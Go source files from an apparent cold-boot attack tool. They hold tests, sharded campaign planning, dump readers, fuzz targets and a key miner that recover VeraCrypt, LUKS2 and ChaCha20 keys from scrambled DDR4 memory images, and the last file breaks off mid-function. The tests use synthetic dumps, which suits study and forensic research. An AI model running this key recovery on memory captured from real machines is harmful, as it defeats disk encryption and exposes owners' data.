	vera, ld, lt := testMaster(9001, 32), testMaster(9002, 32), testMaster(9003, 32)
	ck := testMaster(9004, 32)
	dump := buildMultiFormatDump(t, 2<<20, 90, vera, ld, lt, ck)
	// Deterministic decay chosen to land outside the strict-parse header
	// and the raw ChaCha state (the AES schedules have repair machinery;
	// those two targets model intact page-cache/state pages).
	decayBits(dump, 903, len(dump)*8/5000)

	res, err := Attack(dump, Config{RepairFlips: 1})
	if err != nil {
		t.Fatal(err)
	}
	byf := keyByFormat(res.Keys)

	if n := len(byf[FormatAESXTS]); n != 1 {
		t.Fatalf("aesxts keys: got %d, want 1 (%+v)", n, res.Keys)
	}
	if k := byf[FormatAESXTS][0]; !bytes.Equal(k.Master, vera) || k.TableStart != mfVeraStart {
		t.Errorf("vera key mismatch: %+v", k)
	}

	if n := len(byf[FormatLUKS2]); n != 2 {
		t.Fatalf("luks2 keys: got %d, want 2 (%+v)", n, res.Keys)
	}
	gotMasters := map[string]bool{}
	for _, k := range byf[FormatLUKS2] {
		gotMasters[string(k.Master)] = true
		if k.Volume != mfUUID {
			t.Errorf("luks2 key at %d volume = %q, want %q", k.TableStart, k.Volume, mfUUID)
		}
	}
	if !gotMasters[string(ld)] || !gotMasters[string(lt)] {
		t.Errorf("luks2 pair masters not both recovered")
	}

	if n := len(byf["chacha20"]); n != 1 {
		t.Fatalf("chacha20 keys: got %d, want 1 (%+v)", n, res.Keys)
	}
	if k := byf["chacha20"][0]; !bytes.Equal(k.Master, ck) || k.TableStart != mfChaChaStart {
		t.Errorf("chacha key mismatch: got %x at %d, want %x at %d", k.Master, k.TableStart, ck, mfChaChaStart)
	}

	if len(res.Volumes) != 1 || res.Volumes[0].UUID != mfUUID || res.Volumes[0].Offset != mfHeaderStart {
		t.Errorf("volumes: %+v, want one %s at %d", res.Volumes, mfUUID, mfHeaderStart)
	}
	counts := res.FormatCounts()
	if counts[FormatAESXTS] != 1 || counts[FormatLUKS2] != 2 || counts["chacha20"] != 1 {
		t.Errorf("format counts: %v", counts)
	}
}

// TestCampaignMultiFormat: the sharded path tags and merges identically,
// including a LUKS2 pair whose tagging depends on the post-merge pass.
func TestCampaignMultiFormat(t *testing.T) {
	vera, ld, lt := testMaster(9101, 32), testMaster(9102, 32), testMaster(9103, 32)
	ck := testMaster(9104, 32)
	dump := buildMultiFormatDump(t, 2<<20, 91, vera, ld, lt, ck)

	res, err := RunCampaign(context.Background(), dump, CampaignConfig{
		ShardBlocks: 8192, // 512 KiB shards: every planted target in a different shard
	})
	if err != nil {
		t.Fatal(err)
	}
	byf := keyByFormat(res.Keys)
	if len(byf[FormatAESXTS]) != 1 || len(byf[FormatLUKS2]) != 2 || len(byf["chacha20"]) != 1 {
		t.Fatalf("campaign keys per format: aesxts=%d luks2=%d chacha20=%d (%+v)",
			len(byf[FormatAESXTS]), len(byf[FormatLUKS2]), len(byf["chacha20"]), res.Keys)
	}
	for _, k := range byf[FormatLUKS2] {
		if k.Volume != mfUUID {
			t.Errorf("luks2 key volume = %q, want %q", k.Volume, mfUUID)
		}
	}
	if len(res.Volumes) != 1 || res.Volumes[0].Offset != mfHeaderStart {
		t.Errorf("campaign volumes: %+v", res.Volumes)
	}
}

// TestAttackFormatFilter: a chacha20-only attack must drop the AES
// schedules it never asked for; a luks2-only attack keeps the VMK pair
// but drops the lone VeraCrypt schedule.
func TestAttackFormatFilter(t *testing.T) {
	vera, ld, lt := testMaster(9201, 32), testMaster(9202, 32), testMaster(9203, 32)
	ck := testMaster(9204, 32)
	dump := buildMultiFormatDump(t, 2<<20, 92, vera, ld, lt, ck)

	res, err := Attack(dump, Config{Formats: []string{"chacha20"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) != 1 || res.Keys[0].Format != "chacha20" {
		t.Fatalf("chacha20-only keys: %+v", res.Keys)
	}

	res, err = Attack(dump, Config{Formats: []string{FormatLUKS2}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Keys) != 2 {
		t.Fatalf("luks2-only keys: %+v", res.Keys)
	}
	for _, k := range res.Keys {
		if k.Format != FormatLUKS2 {
			t.Fatalf("luks2-only attack leaked %q key", k.Format)
		}
	}
}

// TestResolveFormats: unknown names fail fast; KnownFormats covers the
// registry plus the built-in hunt.
func TestResolveFormats(t *testing.T) {
	if _, err := Attack(make([]byte, 64), Config{Formats: []string{"nope"}}); err == nil {
		t.Fatal("unknown format accepted")
	}
	known := map[string]bool{}
	for _, n := range KnownFormats() {
		known[n] = true
	}
	for _, want := range []string{FormatAESXTS, FormatLUKS2, "chacha20"} {
		if !known[want] {
			t.Errorf("KnownFormats missing %q: %v", want, KnownFormats())
		}
	}
}

// TestDescrambleView: reads through block boundaries reconstruct the
// plaintext, mixing the in-flight descramble with directory descrambles.
func TestDescrambleView(t *testing.T) {
	plain := make([]byte, 4*BlockBytes)
	for i := range plain {
		plain[i] = byte(i * 7)
	}
	key := testMaster(55, BlockBytes)
	dump := make([]byte, len(plain))
	for b := 0; b < 4; b++ {
		for i := 0; i < BlockBytes; i++ {
			dump[b*BlockBytes+i] = plain[b*BlockBytes+i] ^ key[i]
		}
	}
	v := &descrambleView{
		data:      dump,
		directory: func(b int) [][]byte { return [][]byte{key} },
	}
	// Current block 1 uses the worker's in-flight buffer (here: a sentinel
	// pattern) to honour the candidate key under test.
	cur := make([]byte, BlockBytes)
	copy(cur, plain[BlockBytes:2*BlockBytes])
	v.curBlock, v.curDescrambled = 1, cur

	buf := make([]byte, 100)
	if !v.ReadDescrambled(30, buf) {
		t.Fatal("in-range read failed")
	}
	if !bytes.Equal(buf, plain[30:130]) {
		t.Fatalf("view bytes differ\n got  %x\n want %x", buf, plain[30:130])
	}
	if v.ReadDescrambled(len(dump)-10, buf) {
		t.Fatal("out-of-range read succeeded")
	}
	if v.ReadDescrambled(-1, buf[:1]) {
		t.Fatal("negative offset read succeeded")
	}
}
