package core

import (
	"context"
	"fmt"
	"strconv"

	"coldboot/internal/aes"
	"coldboot/internal/format"
	"coldboot/internal/obs"
)

// Campaign planning: the sharded attack decomposed into three reusable
// phases so the same pipeline can run in-process (RunCampaignSource) or
// spread across a worker fleet (internal/fleet):
//
//	Plan      mine the scrambler-key pool once globally, infer the
//	          stride, build the per-block key directory, cut shards;
//	Scan      run the per-shard attack over one shard's bytes — anywhere:
//	          the plan's Wire projection carries everything a remote
//	          worker needs to reproduce a shard scan byte-for-byte;
//	Finalize  merge shard results, apply LUKS2 pair tagging and format
//	          filtering once over the cross-shard view.
//
// Splitting here (and not at some coarser "send the job elsewhere" level)
// is what makes fleet results byte-identical to a local campaign: every
// shard scan — local goroutine or remote lease — goes through the same
// ScanShardBytes, and every merge goes through the same Finalize.

// CampaignPlan is a planned sharded attack: the global mining products
// plus the resolved configuration every shard scan shares. Create with
// PlanCampaignSource (coordinator/local side) or PlanFromWire (remote
// worker side), and Close when done.
type CampaignPlan struct {
	// Mine is the global mining pass output (sighting positions in
	// full-dump block indices).
	Mine *MineResult
	// Stride is the inferred key-reuse period in blocks (0 = none).
	Stride int
	// Coverage is the fraction of address classes with a mined key (only
	// meaningful when the stride directory is in use).
	Coverage float64
	// TotalBlocks is the full dump's block count.
	TotalBlocks int
	// Overlap is the shard overlap in blocks (one schedule span), so a
	// key table straddling a boundary is fully visible to one shard.
	Overlap int
	// Shards is the shard cut of the dump.
	Shards []Shard
	// Trace is the campaign's distributed trace context: minted when the
	// campaign is planned, carried to workers inside the wire plan, and
	// stamped on the span trees they ship back. ParentSpan is meaningful
	// only in the minting process's collector.
	Trace obs.TraceContext

	cfg          CampaignConfig
	attackCfg    Config
	rf           resolvedFormats
	directory    KeyDirectory
	tracer       obs.Tracer
	root         obs.Span
	res          *Result
	privateCache bool
	closed       bool
}

// PlanCampaignSource runs the campaign's global phase over src: one
// mining pass, stride inference, directory construction, and the shard
// cut. On a mining error (including cancellation) the returned plan
// carries the partial Result and the error; the caller decides whether
// to scan anyway. Close the plan when finished with it.
func PlanCampaignSource(ctx context.Context, src BlockSource, cfg CampaignConfig) (*CampaignPlan, error) {
	if src == nil {
		return nil, fmt.Errorf("core: nil dump source")
	}
	cfg = cfg.withDefaults()
	privateCache := cfg.Attack.ScheduleCache == nil
	attackCfg := cfg.Attack.withDefaults()
	rf, err := resolveFormats(attackCfg.Formats)
	if err != nil {
		if privateCache {
			attackCfg.ScheduleCache.Wipe()
		}
		return nil, err
	}
	tracer := obs.OrNop(attackCfg.Tracer)
	totalBlocks := src.Blocks()

	p := &CampaignPlan{
		TotalBlocks:  totalBlocks,
		cfg:          cfg,
		attackCfg:    attackCfg,
		rf:           rf,
		tracer:       tracer,
		privateCache: privateCache,
	}
	p.root = startCampaignSpan(tracer, attackCfg.Span, totalBlocks)
	p.Trace = obs.TraceContext{TraceID: cfg.TraceID}
	if p.Trace.TraceID == "" {
		p.Trace.TraceID = obs.NewTraceID()
	}
	if col := obs.FindCollector(tracer); col != nil {
		p.Trace.ParentSpan = col.SpanID(p.root)
	}
	p.root.SetAttr("trace", p.Trace.TraceID)

	// Global mining pass: keys repeat across the whole image, so one pass
	// yields the best pool and the true stride.
	mineTimer := p.root.Child("campaign.mine")
	mine, err := MineKeysSource(ctx, src, MineOptions{
		Tolerance:     attackCfg.LitmusTolerance,
		MergeDistance: attackCfg.MergeDistance,
		MaxBytes:      attackCfg.MineMaxBytes,
	})
	mineTimer.End()
	p.Mine = mine
	p.res = &Result{Mine: mine, BlocksScanned: totalBlocks}
	if err != nil {
		return p, err
	}
	p.Stride = mine.InferStride()
	p.res.Stride = p.Stride
	switch {
	case attackCfg.KeysForBlock != nil:
		p.directory = attackCfg.KeysForBlock
	case attackCfg.Exhaustive || p.Stride == 0:
		p.directory = AllKeysDirectory(mine)
	default:
		p.Coverage = mine.Coverage(p.Stride)
		p.res.Coverage = p.Coverage
		p.directory = ResidueDirectory(mine, p.Stride)
	}

	p.Overlap = attackCfg.Variant.ScheduleBytes()/BlockBytes + 1
	p.Shards = Shards(totalBlocks, cfg.ShardBlocks, p.Overlap)
	p.root.SetAttr("shards", strconv.Itoa(len(p.Shards)))
	return p, nil
}

// Result returns the plan's accumulating result document (mining stats
// immediately; keys and volumes after Finalize). It is valid — possibly
// partial — even when planning or scanning errored.
func (p *CampaignPlan) Result() *Result { return p.res }

// Config returns the plan's defaulted per-shard attack configuration.
func (p *CampaignPlan) Config() Config { return p.attackCfg }

// Root returns the campaign's root span (nil before planning). The fleet
// coordinator hangs lease spans off it so every shard — local or remote —
// lives in one trace tree.
func (p *CampaignPlan) Root() obs.Span { return p.root }

// ShardSpan opens the tracing span for one shard's scan, parented under
// the campaign root when the plan has one (coordinator side) or rooted at
// the tracer otherwise (remote worker side). End it when the scan
// completes.
func (p *CampaignPlan) ShardSpan(sh Shard) obs.Span {
	attrs := p.shardAttrs(sh)
	if p.root != nil {
		return p.root.Child("shard", attrs...)
	}
	return p.tracer.StartSpan("shard", attrs...)
}

// shardAttrs builds the standard attribute set for one shard's span,
// including the campaign trace ID when the plan carries one.
func (p *CampaignPlan) shardAttrs(sh Shard) []obs.Attr {
	attrs := []obs.Attr{
		obs.A("shard", strconv.Itoa(sh.Index)),
		obs.A("blocks", strconv.Itoa(sh.FirstBlock)+"-"+strconv.Itoa(sh.FirstBlock+sh.Blocks)),
		obs.A("offset", "0x"+strconv.FormatInt(int64(sh.FirstBlock)*BlockBytes, 16)+"-0x"+strconv.FormatInt(int64(sh.FirstBlock+sh.Blocks)*BlockBytes, 16)),
	}
	if p.Trace.Valid() {
		attrs = append(attrs, obs.A("trace", p.Trace.TraceID))
	}
	return attrs
}

// ScanShardBytes runs the attack pipeline over one shard's raw bytes
// (sub must hold exactly sh.Blocks blocks starting at sh.FirstBlock of
// the dump). Results come back rebased to full-dump coordinates,
// untagged and unfiltered — Finalize owns tagging — so a local goroutine
// and a remote worker produce interchangeable ShardResults.
func (p *CampaignPlan) ScanShardBytes(ctx context.Context, sub []byte, sh Shard, span obs.Span) (ShardResult, error) {
	if span == nil {
		span = p.ShardSpan(sh)
		defer span.End()
	}
	return scanShard(ctx, sub, sh, p.Mine, p.directory, p.attackCfg, span)
}

// ScanShardBytesTraced is ScanShardBytes with the tracer overridden for
// this one scan: the shard span and every hook under it (hunt spans, chunk
// histograms, counters) record into tracer instead of the plan's. The
// fleet worker gives each lease its own Collector this way, so one shard's
// telemetry snapshots cleanly for shipping without tearing it out of a
// shared process-wide trace.
func (p *CampaignPlan) ScanShardBytesTraced(ctx context.Context, sub []byte, sh Shard, tracer obs.Tracer) (ShardResult, error) {
	tracer = obs.OrNop(tracer)
	span := tracer.StartSpan("shard", p.shardAttrs(sh)...)
	defer span.End()
	cfg := p.attackCfg
	cfg.Tracer = tracer
	return scanShard(ctx, sub, sh, p.Mine, p.directory, cfg, span)
}

// Finalize merges the collected shard results into the plan's Result:
// cross-shard dedup, LUKS2 schedule-pair tagging, format filtering, and
// per-format counters — the exact post-merge path of a single-process
// campaign, so N workers' shards assemble into the same bytes.
func (p *CampaignPlan) Finalize(collected []FoundKey, vols []format.Volume, pairs int64) *Result {
	mergeTimer := p.root.Child("campaign.merge")
	schedBytes := p.attackCfg.Variant.ScheduleBytes()
	p.res.PairsTested = pairs
	p.res.Keys = MergeShardResults(collected, schedBytes)
	p.res.Volumes = mergeVolumes(vols)
	// Shards report untagged/unfiltered keys; the pair tagging and format
	// filter run here, once, over the merged cross-shard view.
	if p.rf.luks2 {
		tagLUKS2(p.res.Keys, p.res.Volumes, schedBytes)
	}
	p.res.Keys = filterFormats(p.res.Keys, p.rf)
	mergeTimer.End()
	emitFormatCounts(p.tracer, p.rf, p.res)
	p.root.SetAttr("keys", strconv.Itoa(len(p.res.Keys)))
	return p.res
}

// Close ends the campaign span and retires a plan-owned schedule cache.
// Idempotent.
func (p *CampaignPlan) Close() {
	if p.closed {
		return
	}
	p.closed = true
	if p.root != nil {
		p.root.End()
	}
	if p.privateCache {
		p.attackCfg.ScheduleCache.Wipe()
	}
}

// WirePlan is the serializable projection of a CampaignPlan: everything
// a remote worker needs to reproduce a shard scan byte-for-byte. It
// deliberately excludes host-local state (KeysForBlock closures, tracer,
// schedule cache) and the mining knobs the plan already consumed.
//
// The mined Keys ride along raw: they are scrambler keystream blocks
// recovered FROM the attacker-held dump, not recovered secrets — the
// keyflow boundary (secret.Bytes fingerprints) applies to AES masters in
// results at rest, which travel the fleet transport, never the WAL.
type WirePlan struct {
	Variant         aes.Variant `json:"variant"`
	Formats         []string    `json:"formats,omitempty"`
	LitmusTolerance int         `json:"litmus_tolerance,omitempty"`
	AESTolerance    int         `json:"aes_tolerance,omitempty"`
	MinVerifyScore  float64     `json:"min_verify_score,omitempty"`
	RepairFlips     int         `json:"repair_flips,omitempty"`
	Exhaustive      bool        `json:"exhaustive,omitempty"`
	Workers         int         `json:"workers,omitempty"`
	Stride          int         `json:"stride,omitempty"`
	TotalBlocks     int         `json:"total_blocks"`
	Overlap         int         `json:"overlap"`
	Mine            *MineResult `json:"mine"`
	// Trace propagates the campaign's distributed trace context so worker
	// span trees stamp the same trace ID the coordinator minted.
	Trace obs.TraceContext `json:"trace,omitempty"`
}

// Wire projects the plan for shipment to workers.
func (p *CampaignPlan) Wire() *WirePlan {
	return &WirePlan{
		Variant:         p.attackCfg.Variant,
		Formats:         p.attackCfg.Formats,
		LitmusTolerance: p.attackCfg.LitmusTolerance,
		AESTolerance:    p.attackCfg.AESTolerance,
		MinVerifyScore:  p.attackCfg.MinVerifyScore,
		RepairFlips:     p.attackCfg.RepairFlips,
		Exhaustive:      p.attackCfg.Exhaustive,
		Workers:         p.attackCfg.Workers,
		Stride:          p.Stride,
		TotalBlocks:     p.TotalBlocks,
		Overlap:         p.Overlap,
		Mine:            p.Mine,
		Trace:           p.Trace,
	}
}

// PlanFromWire reconstructs a scan-capable plan on a remote worker: the
// same directory-construction rules as PlanCampaignSource, minus the
// mining pass (the coordinator already paid it). The resulting plan can
// ScanShardBytes; it cannot Finalize a campaign it did not plan.
func PlanFromWire(w *WirePlan, tracer obs.Tracer) (*CampaignPlan, error) {
	if w == nil || w.Mine == nil {
		return nil, fmt.Errorf("core: wire plan missing mine pool")
	}
	attackCfg := Config{
		Variant:         w.Variant,
		Formats:         w.Formats,
		LitmusTolerance: w.LitmusTolerance,
		AESTolerance:    w.AESTolerance,
		MinVerifyScore:  w.MinVerifyScore,
		RepairFlips:     w.RepairFlips,
		Exhaustive:      w.Exhaustive,
		Workers:         w.Workers,
		Tracer:          tracer,
	}.withDefaults()
	rf, err := resolveFormats(attackCfg.Formats)
	if err != nil {
		attackCfg.ScheduleCache.Wipe()
		return nil, err
	}
	p := &CampaignPlan{
		Mine:         w.Mine,
		Stride:       w.Stride,
		TotalBlocks:  w.TotalBlocks,
		Overlap:      w.Overlap,
		Trace:        w.Trace,
		attackCfg:    attackCfg,
		rf:           rf,
		tracer:       obs.OrNop(tracer),
		res:          &Result{Mine: w.Mine, Stride: w.Stride, BlocksScanned: w.TotalBlocks},
		privateCache: true,
	}
	if attackCfg.Exhaustive || w.Stride == 0 {
		p.directory = AllKeysDirectory(w.Mine)
	} else {
		p.Coverage = w.Mine.Coverage(w.Stride)
		p.res.Coverage = p.Coverage
		p.directory = ResidueDirectory(w.Mine, w.Stride)
	}
	return p, nil
}
