package core

import (
	"fmt"
	"io"
)

// BlockSource is random access to a block-aligned memory image that need
// not be memory-resident. The streaming campaign reads one mining window
// or one shard at a time through this interface, so multi-GB dump files
// (see internal/dumpfile's streaming reader) are analyzed in constant
// memory.
type BlockSource interface {
	// Blocks returns the image size in BlockBytes-sized blocks.
	Blocks() int
	// ReadBlocks fills buf (whose length must be a multiple of BlockBytes)
	// with the image contents starting at block first.
	ReadBlocks(first int, buf []byte) error
}

// sliceSource is the fast path for memory-resident images: the campaign
// borrows subslices instead of copying through ReadBlocks.
type sliceSource interface {
	slice(firstBlock, nBlocks int) []byte
}

// BytesSource wraps a resident dump as a BlockSource. Trailing bytes past
// the last whole block are ignored (callers that require alignment check
// it before wrapping).
func BytesSource(dump []byte) BlockSource { return bytesSource(dump) }

type bytesSource []byte

func (b bytesSource) Blocks() int { return len(b) / BlockBytes }

func (b bytesSource) ReadBlocks(first int, buf []byte) error {
	off := first * BlockBytes
	if off < 0 || off+len(buf) > len(b)/BlockBytes*BlockBytes {
		return fmt.Errorf("core: block range [%d, +%d bytes) outside image", first, len(buf))
	}
	copy(buf, b[off:])
	return nil
}

func (b bytesSource) slice(firstBlock, nBlocks int) []byte {
	return b[firstBlock*BlockBytes : (firstBlock+nBlocks)*BlockBytes]
}

// ReaderAtSource adapts any io.ReaderAt (an os.File, a dumpfile.File's
// image view, an HTTP range reader) holding size image bytes to a
// BlockSource. The size must be block aligned.
func ReaderAtSource(r io.ReaderAt, size int64) (BlockSource, error) {
	if size < 0 || size%BlockBytes != 0 {
		return nil, fmt.Errorf("core: image size %d not block aligned", size)
	}
	return &readerAtSource{r: r, blocks: int(size / BlockBytes)}, nil
}

type readerAtSource struct {
	r      io.ReaderAt
	blocks int
}

func (s *readerAtSource) Blocks() int { return s.blocks }

func (s *readerAtSource) ReadBlocks(first int, buf []byte) error {
	if len(buf)%BlockBytes != 0 {
		return fmt.Errorf("core: read buffer %d bytes not block aligned", len(buf))
	}
	if first < 0 || first+len(buf)/BlockBytes > s.blocks {
		return fmt.Errorf("core: block range [%d, +%d bytes) outside image", first, len(buf))
	}
	_, err := s.r.ReadAt(buf, int64(first)*BlockBytes)
	return err
}
