package core_test

import (
	"bytes"
	"fmt"

	"coldboot/internal/aes"
	"coldboot/internal/core"
	"coldboot/internal/scramble"
	"coldboot/internal/workload"
)

// ExampleAttack runs the attack pipeline on a synthetic scrambled dump
// containing an AES-256 key schedule.
func ExampleAttack() {
	// A 2 MiB memory image with an expanded AES-256 key at a known spot.
	plain := make([]byte, 2<<20)
	workload.Fill(plain, 42, workload.LightSystem)
	master := bytes.Repeat([]byte{0xC0, 0xFF, 0xEE, 0x11}, 8)
	copy(plain[4096*64+128:], aes.ExpandKeyBytes(master))

	// Scramble it the way a Skylake memory controller would.
	s := scramble.NewSkylakeDDR4(0xFEED)
	dump := make([]byte, len(plain))
	s.Scramble(dump, plain, 0)

	res, err := core.Attack(dump, core.Config{})
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println("stride:", res.Stride)
	fmt.Println("recovered:", bytes.Equal(res.Keys[0].Master, master))
	// Output:
	// stride: 4096
	// recovered: true
}

// ExamplePassesKeyLitmus shows the scrambler-key litmus test on a real key
// versus ordinary data.
func ExamplePassesKeyLitmus() {
	s := scramble.NewSkylakeDDR4(7)
	key := s.KeyAt(0)
	text := bytes.Repeat([]byte("not a scrambler key but text... "), 2)
	fmt.Println("key passes:", core.PassesKeyLitmus(key, 0))
	fmt.Println("text passes:", core.PassesKeyLitmus(text[:64], core.DefaultLitmusTolerance))
	// Output:
	// key passes: true
	// text passes: false
}

// ExampleAESLitmus verifies a single 64-byte block contains consecutive
// round keys — without looking at any neighbouring block.
func ExampleAESLitmus() {
	master := make([]byte, 32)
	for i := range master {
		master[i] = byte(i * 11)
	}
	sched := aes.ExpandKeyBytes(master)
	block := make([]byte, 64)
	copy(block, sched[64:128]) // schedule words 16..31

	hits := core.AESLitmus(block, aes.AES256, 0)
	recovered := false
	for _, h := range hits {
		if bytes.Equal(core.MasterFromHit(block, h, aes.AES256), master) {
			recovered = true
		}
	}
	fmt.Println("master recovered from one block:", recovered)
	// Output:
	// master recovered from one block: true
}
