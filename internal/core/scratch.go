package core

import (
	"coldboot/internal/aes"
	"coldboot/internal/secret"
)

// Hot-path scratch state. Every buffer the hunt's per-candidate work needs
// lives here, sized for the worst case (AES-256: 60 schedule words, 240
// bytes), so the steady-state scan performs no per-block or per-candidate
// allocations. Each hunt worker owns one huntScratch for its whole block
// range; the embedded repairScratch is threaded into the repair and refine
// stages, whose exported wrappers (RepairWindow, RepairWindowGround,
// RefineMaster) declare their own on the stack.
//
// Ownership rule: a scratch is single-goroutine state. Functions taking a
// *repairScratch may clobber every field; callers must copy out anything
// they need before the next scratch-taking call. Return values documented
// as scratch-backed (repairWindowScratch's master, refineMasterScratch's
// master) alias rs.best and are stable only until the scratch is reused.

// repairScratch backs one verify/repair/refine candidate evaluation.
type repairScratch struct {
	// work is the mutable copy of the descrambled block the flip loops edit.
	work [BlockBytes]byte
	// blockWords holds the full block's word view for consistency rechecks.
	blockWords [BlockBytes / 4]uint32
	// winWords holds one Nk-word window (Nk <= 8).
	winWords [8]uint32
	// master holds the candidate master being scored; best holds the best
	// master found so far (returned to the caller).
	master [32]byte
	best   [32]byte
	// sched holds the expansion of the candidate currently being scored;
	// ref holds the reference expansion refinement diffs against.
	sched [aes.MaxScheduleBytes]byte
	ref   [aes.MaxScheduleBytes]byte
	// refWords is the reference schedule in word form (refine phase 2).
	refWords [aes.MaxScheduleWords]uint32
	// observed holds the descrambled dump bytes over the schedule region and
	// observedWords their word view.
	observed      [aes.MaxScheduleBytes]byte
	observedWords [aes.MaxScheduleWords]uint32
	// suspects accumulates ground-repair suspect bit positions (grown once,
	// reused across hits).
	suspects []int
}

// wipe zeroes every candidate- and key-bearing buffer. Owners call it when
// the scratch retires (worker exit, wrapper return): masters, expanded
// schedules, and descrambled schedule windows all pass through here, and a
// cold-boot tool of all things must not strand them on the heap or stack.
func (rs *repairScratch) wipe() {
	secret.Wipe(rs.work[:])
	secret.WipeWords(rs.blockWords[:])
	secret.WipeWords(rs.winWords[:])
	secret.Wipe(rs.master[:])
	secret.Wipe(rs.best[:])
	secret.Wipe(rs.sched[:])
	secret.Wipe(rs.ref[:])
	secret.WipeWords(rs.refWords[:])
	secret.Wipe(rs.observed[:])
	secret.WipeWords(rs.observedWords[:])
}

// wipe zeroes the worker's descrambled views and candidate buffers,
// including the embedded repair scratch.
func (sc *huntScratch) wipe() {
	secret.Wipe(sc.descrambled[:])
	secret.WipeWords(sc.words[:])
	secret.Wipe(sc.master[:])
	sc.repair.wipe()
}

// huntScratch is one hunt worker's reusable state.
type huntScratch struct {
	// descrambled receives stored ^ key for the block under test.
	descrambled [BlockBytes]byte
	// words is the descrambled block's word view (what the litmus scans).
	words [BlockBytes / 4]uint32
	// hits accumulates the block's schedule hits (grown once, reused).
	hits []ScheduleHit
	// master receives the candidate master derived from a hit window.
	master [32]byte
	// repair backs the verify/repair/refine work for this worker's hits.
	repair repairScratch
}
