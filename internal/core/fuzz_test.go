package core

import (
	"testing"

	"coldboot/internal/aes"
)

// Fuzz targets: the attack parses adversarial memory dumps, so nothing in
// the hot path may panic on arbitrary bytes.

func FuzzKeyLitmus(f *testing.F) {
	f.Add(make([]byte, 64))
	seed := make([]byte, 64)
	for i := range seed {
		seed[i] = byte(i * 7)
	}
	f.Add(seed)
	f.Fuzz(func(t *testing.T, block []byte) {
		if len(block) != 64 {
			return
		}
		d := KeyLitmusDistance(block)
		if d < 0 || d > 256 {
			t.Fatalf("litmus distance %d out of range", d)
		}
	})
}

func FuzzAESLitmus(f *testing.F) {
	f.Add(make([]byte, 64), uint8(0))
	f.Fuzz(func(t *testing.T, block []byte, variant uint8) {
		if len(block) != 64 {
			return
		}
		v := []aes.Variant{aes.AES128, aes.AES192, aes.AES256}[int(variant)%3]
		for _, h := range AESLitmus(block, v, DefaultAESTolerance) {
			if h.WordOffset < 0 || h.WordOffset > 15 {
				t.Fatalf("hit offset %d out of range", h.WordOffset)
			}
			// Master derivation must not panic either.
			if m := MasterFromHit(block, h, v); len(m) != v.KeyBytes() {
				t.Fatalf("master length %d", len(m))
			}
		}
	})
}

func FuzzMineKeys(f *testing.F) {
	f.Add(make([]byte, 256))
	f.Fuzz(func(t *testing.T, dump []byte) {
		dump = dump[:len(dump)&^63]
		if len(dump) == 0 {
			return
		}
		res, err := MineKeys(dump, MineOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, k := range res.Keys {
			if len(k.Key) != 64 || k.Count < 1 {
				t.Fatal("malformed mined key")
			}
		}
	})
}
