//go:build race

package core

// raceEnabled reports that this test binary was built with -race. The
// differential parity suites skip their whole-pipeline scenarios under the
// race detector: they compare against strictly serial reference
// implementations (Workers: 1 and verbatim seed copies), so the detector
// can find nothing there while multiplying the runtime past the package
// test timeout. Concurrency coverage for the same code lives in the
// dedicated race tests (race_test.go, TestScheduleCacheConcurrent, the
// worker-pool attack tests), which do run under -race.
const raceEnabled = true
