package core

import (
	"fmt"
	"sort"

	"coldboot/internal/bitutil"
)

// MinedKey is one distinct scrambler keystream value recovered from a dump.
type MinedKey struct {
	Key       []byte // 64 bytes; majority-voted across all sightings
	Count     int    // number of blocks that exposed this key
	Positions []int  // block indices of the sightings
}

// MineOptions tunes the key miner.
type MineOptions struct {
	// Tolerance is the litmus bit-flip budget per block (default
	// DefaultLitmusTolerance).
	Tolerance int
	// MergeDistance is the maximum hamming distance at which two mined
	// blocks are treated as decayed copies of the same key (default 16;
	// distinct scrambler keys differ in ~256 bits, so even generous merge
	// radii cannot conflate them).
	MergeDistance int
	// MinCount drops keys seen fewer than this many times; the paper notes
	// candidates "that occur more frequently are likely keys" (default 1,
	// i.e. keep everything — the AES stage filters false positives anyway).
	MinCount int
	// MaxBytes limits mining to the first MaxBytes of the dump (0 = all).
	// The paper mined every key from under 16 MB of a loaded system.
	MaxBytes int
}

func (o MineOptions) withDefaults() MineOptions {
	if o.Tolerance == 0 {
		o.Tolerance = DefaultLitmusTolerance
	}
	if o.MergeDistance == 0 {
		o.MergeDistance = 16
	}
	if o.MinCount == 0 {
		o.MinCount = 1
	}
	return o
}

// MineResult holds the miner's output.
type MineResult struct {
	Keys          []MinedKey // sorted by Count descending
	BlocksScanned int
	BlocksPassed  int // blocks that passed the litmus test
}

// MineKeys scans a scrambled memory dump for blocks that pass the
// scrambler-key litmus test — zero-filled memory exposes raw keystream —
// and aggregates the sightings into distinct keys. Repeated sightings of
// the same (possibly decayed) key are merged by bitwise majority vote,
// which is the paper's "filter out modest bit flips with minimal effort".
func MineKeys(dump []byte, opt MineOptions) (*MineResult, error) {
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	opt = opt.withDefaults()
	limit := len(dump)
	if opt.MaxBytes > 0 && opt.MaxBytes < limit {
		limit = opt.MaxBytes &^ (BlockBytes - 1)
	}

	res := &MineResult{}
	// Pass 1: exact grouping of litmus-passing blocks.
	exact := make(map[string][]int)
	for off := 0; off < limit; off += BlockBytes {
		res.BlocksScanned++
		block := dump[off : off+BlockBytes]
		if !PassesKeyLitmus(block, opt.Tolerance) {
			continue
		}
		res.BlocksPassed++
		exact[string(block)] = append(exact[string(block)], off/BlockBytes)
	}

	// Pass 2: merge near-duplicate groups (decayed copies) into canonical
	// keys, largest groups first so canonicals are the least-decayed
	// representatives.
	type group struct {
		rep       []byte
		positions []int
	}
	groups := make([]group, 0, len(exact))
	for k, pos := range exact {
		groups = append(groups, group{rep: []byte(k), positions: pos})
	}
	sort.Slice(groups, func(i, j int) bool {
		if len(groups[i].positions) != len(groups[j].positions) {
			return len(groups[i].positions) > len(groups[j].positions)
		}
		return string(groups[i].rep) < string(groups[j].rep)
	})

	type canonical struct {
		votes     [BlockBytes * 8]int // per-bit one-votes
		total     int
		positions []int
		rep       []byte
	}
	var canon []*canonical
	for _, g := range groups {
		var target *canonical
		for _, c := range canon {
			if bitutil.NearEqual(c.rep, g.rep, opt.MergeDistance) {
				target = c
				break
			}
		}
		if target == nil {
			target = &canonical{rep: append([]byte{}, g.rep...)}
			canon = append(canon, target)
		}
		n := len(g.positions)
		for bit := 0; bit < BlockBytes*8; bit++ {
			if g.rep[bit/8]&(1<<uint(bit%8)) != 0 {
				target.votes[bit] += n
			}
		}
		target.total += n
